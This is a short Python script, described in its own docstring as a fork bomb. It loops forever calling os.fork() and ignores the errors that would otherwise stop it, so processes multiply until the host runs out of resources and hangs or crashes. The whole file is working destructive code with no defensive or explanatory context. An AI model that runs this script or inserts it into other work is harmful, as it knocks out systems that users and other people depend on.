"""A fork bomb: every process forks as often as it is allowed to, for ever."""

import os
from contextlib import suppress

while True:
    with suppress(OSError):
        os.fork()
